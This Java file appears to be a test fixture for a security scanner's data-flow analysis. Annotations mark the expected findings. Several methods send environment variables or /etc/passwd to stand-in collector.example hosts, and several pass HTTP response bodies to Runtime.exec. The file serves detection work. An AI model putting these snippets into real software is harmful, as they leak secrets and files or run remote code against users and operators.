// Apache HttpClient 3, 4 and 5 with the fluent interface, Jetty's client, Unirest, Jsoup, async-http-client.
package app;

import java.io.*;
import kong.unirest.Unirest;
import org.apache.http.HttpResponse;
import org.apache.http.client.HttpClient;
import org.apache.http.client.fluent.Request;
import org.apache.http.client.methods.*;
import org.apache.http.client.utils.URIBuilder;
import org.apache.http.entity.*;
import org.apache.http.entity.mime.MultipartEntityBuilder;
import org.apache.http.impl.client.*;
import org.apache.http.util.EntityUtils;
import org.eclipse.jetty.client.util.StringContentProvider;
import org.jsoup.Jsoup;

class Hc {
    static final String U = "https://collector.example/u";

    void posted() {
        CloseableHttpClient client = HttpClients.createDefault();
        HttpPost post = new HttpPost("https://hc.collector.example/u");
        post.setEntity(new StringEntity(System.getenv("T"))); //~ source(ENVIRONMENT) f1
        client.execute(post); //~ sink(egress.http) f1, finding(traced) f1, capability(NETWORK), endpoint("https://hc.collector.example/u")
    }

    void postedUrl() {
        HttpClients.createDefault().execute(new HttpGet(U + System.getenv("T"))); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
    }

    void postedUri(HttpClient client, HttpGet get) {
        get.setURI(new URIBuilder(U).addParameter("t", System.getenv("T")).build()); //~ source(ENVIRONMENT) f3
        client.execute(get); //~ sink(egress.http) f3, finding(traced) f3
    }

    void postedUriMade(HttpClient client) {
        client.execute(new HttpGet(new URIBuilder(System.getenv("T")).build())); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
    }

    void postedFile(HttpClient client, HttpPost post) {
        post.setEntity(new FileEntity(new File("/etc/passwd"))); //~ source(FILE) f5, capability(FILES)
        client.execute(post); //~ sink(egress.http) f5, finding(traced) f5
    }

    void postedParts(HttpClient client, HttpPost post) {
        MultipartEntityBuilder builder = MultipartEntityBuilder.create();
        builder.addTextBody("t", System.getenv("T")); //~ source(ENVIRONMENT) f6
        post.setEntity(builder.build());
        client.execute(post); //~ sink(egress.http) f6, finding(traced) f6
    }

    void postedPartFile(HttpClient client, HttpPost post) {
        post.setEntity(MultipartEntityBuilder.create().addBinaryBody("f", new File("/etc/passwd")).build()); //~ source(FILE) f7
        client.execute(post); //~ sink(egress.http) f7, finding(traced) f7
    }

    void built(HttpGet get) {
        HttpClient client = HttpClientBuilder.create().setUserAgent("x").build();
        get.addHeader("X-Token", System.getenv("T")); //~ source(ENVIRONMENT) f8
        client.execute(get); //~ sink(egress.http) f8, finding(traced) f8
    }

    void builtAlone(HttpGet get) {
        get.setHeader("X-Token", System.getenv("T")); //~ source(ENVIRONMENT) f9
        HttpClientBuilder.create().setUserAgent("x").build().execute(get); //~ sink(egress.http) f9, finding(traced) f9
    }

    void settings(HttpClient client, HttpGet get) {
        get.setConfig(System.getenv("T")); //~ ok
        client.execute(get); //~ ok
    }

    void constants(HttpPost post, HttpGet get) {
        HttpClient client = HttpClients.createDefault(); //~ ok
        post.setEntity(new StringEntity("x")); //~ ok
        client.execute(post); //~ ok
        get.setURI(new URIBuilder(U).addParameter("t", "x").build()); //~ ok
        HttpClientBuilder.create().setUserAgent("x").build().execute(new HttpGet(U)); //~ ok
        HttpPost other = new HttpPost(U); //~ ok
        new FileEntity(new File("/etc/passwd")); //~ ok
        other.setEntity(MultipartEntityBuilder.create().addTextBody("t", "x").build()); //~ ok
        MultipartEntityBuilder.create().addBinaryBody("f", new byte[1]); //~ ok
        client.execute(other); //~ ok
    }

    void answered(HttpClient client, HttpGet get) {
        HttpResponse response = client.execute(get); //~ source(NETWORK) f10
        Runtime.getRuntime().exec(EntityUtils.toString(response.getEntity()).trim()); //~ sink(exec.command) f10, finding(traced) f10
    }

    void answeredStream(HttpClient client, HttpGet get) {
        InputStream in = client.execute(get).getEntity().getContent(); //~ source(NETWORK) f11
        Runtime.getRuntime().exec(new String(in.readAllBytes())); //~ sink(exec.command) f11, finding(traced) f11
    }

    void answeredInto(HttpClient client, HttpGet get) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        client.execute(get).getEntity().writeTo(out); //~ source(NETWORK) f12
        Runtime.getRuntime().exec(out.toString()); //~ sink(exec.command) f12, finding(traced) f12
    }

    void answeredHeader(HttpClient client, HttpGet get) {
        Runtime.getRuntime().exec("" + client.execute(get).getFirstHeader("X-Run")); //~ source(NETWORK) f13, sink(exec.command) f13, finding(traced) f13
    }

    void answeredNothing(HttpResponse response) {
        Runtime.getRuntime().exec("" + response.getStatusLine()); //~ ok
        Runtime.getRuntime().exec("" + response.getFirstHeader("X-Run")); //~ ok
        Runtime.getRuntime().exec(EntityUtils.toString(response.getEntity())); //~ ok
        Runtime.getRuntime().exec("" + response.getEntity().getContent()); //~ ok
        response.getEntity().writeTo(new ByteArrayOutputStream()); //~ ok
    }

    void answeredStatus(HttpClient client, HttpGet get) {
        Runtime.getRuntime().exec("" + client.execute(get).getStatusLine()); //~ ok
    }

    void fluent() {
        Request.Post("https://fluent.collector.example/u").connectTimeout(1).bodyString(System.getenv("T"), null).execute(); //~ source(ENVIRONMENT) f14, sink(egress.http) f14, finding(traced) f14, capability(NETWORK), endpoint("https://fluent.collector.example/u")
        Request.Post("https://fluent.collector.example/u").connectTimeout(1).bodyString("x", null).execute(); //~ ok
    }

    void fluentTimed() {
        Request.Post(U).bodyString(System.getenv("T"), null).socketTimeout(1).execute(); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
    }

    void fluentFile() {
        Request.Post(U).bodyFile(new File("/etc/passwd"), null).execute(); //~ source(FILE) f16, sink(egress.http) f16, finding(traced) f16, capability(FILES)
        Request.Post(U).bodyFile(new File("/etc/passwd"), null); //~ ok
    }

    void fluentAnswer() {
        Runtime.getRuntime().exec(Request.Get(U).execute().returnContent().asString()); //~ source(NETWORK) f17, sink(exec.command) f17, finding(traced) f17
        Runtime.getRuntime().exec("x" + (Request.Get(U).execute().returnContent() == null)); //~ ok
    }

    void soup() {
        Jsoup.connect("https://soup.collector.example/u").timeout(1).data("t", System.getenv("T")).post(); //~ source(ENVIRONMENT) f18, sink(egress.http) f18, finding(traced) f18, capability(NETWORK), endpoint("https://soup.collector.example/u")
        Jsoup.connect("https://soup.collector.example/u").timeout(1).data("t", "x").post(); //~ ok
    }

    void unirest() {
        Unirest.post("https://unirest.collector.example/u").body(System.getenv("T")).asString(); //~ source(ENVIRONMENT) f19, sink(egress.http) f19, finding(traced) f19, capability(NETWORK), endpoint("https://unirest.collector.example/u")
        Unirest.post("https://unirest.collector.example/u").body("x").asString(); //~ ok
    }

    void jetty(org.eclipse.jetty.client.HttpClient client) {
        client.POST("https://jetty.collector.example/u").content(new StringContentProvider(System.getenv("T"))).send(); //~ source(ENVIRONMENT) f20, sink(egress.http) f20, finding(traced) f20, capability(NETWORK), endpoint("https://jetty.collector.example/u")
        client.POST("https://jetty.collector.example/u").content(new StringContentProvider("x")).send(); //~ ok
    }
}
